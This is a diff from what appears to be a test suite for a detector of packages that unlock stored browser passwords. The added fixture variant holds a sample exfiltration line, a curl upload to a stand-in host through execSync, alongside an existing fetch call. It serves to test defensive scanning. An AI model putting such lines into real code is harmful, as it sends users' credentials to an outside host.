@@ -58,8 +58,8 @@ examine(unlocksStoredPasswords, {
       },
       weight: 'weak',
     },
-    ...(['', `; fetch('https://a.invalid')`] as const).map(sends => ({
-      when: `a command asks for the key of a browser, as its page says${sends && ', and asks a host'}`,
+    ...(['', `; fetch('https://a.invalid')`, `; cp.execSync('curl -d @- https://a.invalid')`] as const).map(sends => ({
+      when: `a command asks for the key of a browser, as its page says${sends && `, and asks a host${sends}`}`,
       files: {
         'package.json': { name: 'x', version: '1.0.0', bin: 'b.js' },
         'README.md':
